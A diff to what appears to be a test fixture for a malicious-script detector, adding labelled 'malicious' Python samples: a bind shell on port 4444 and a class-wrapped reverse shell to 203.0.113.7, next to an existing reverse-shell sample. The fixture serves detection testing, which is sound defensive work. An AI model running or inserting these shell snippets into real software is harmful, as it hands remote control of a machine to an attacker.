@@ -76,6 +76,18 @@ export const unix: readonly Suspect[] = [
     'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("203.0.113.7",4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
   ),
   text(
+    'listen.py',
+    'malicious',
+    ['script_opens_reverse_shell'],
+    'import socket, os\nsrv = socket.socket()\nsrv.bind(("0.0.0.0", 4444)); srv.listen(1)\nc, a = srv.accept()\nfor fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\nos.execvp(os.environ["SHELL"], ["-i"])\n',
+  ),
+  text(
+    'tied.py',
+    'malicious',
+    ['script_opens_reverse_shell'],
+    'import os, socket\nclass Way:\n    def go(self, host, port):\n        self.way = socket.socket()\n        self.way.connect((host, port))\n        for n in range(3):\n            os.dup2(self.way.fileno(), n)\n        subprocess.run([self.program, "-i"])\nWay().go("203.0.113.7", 4444)\n',
+  ),
+  text(
     'shellcode.py',
     'malicious',
     ['script_injects_code'],
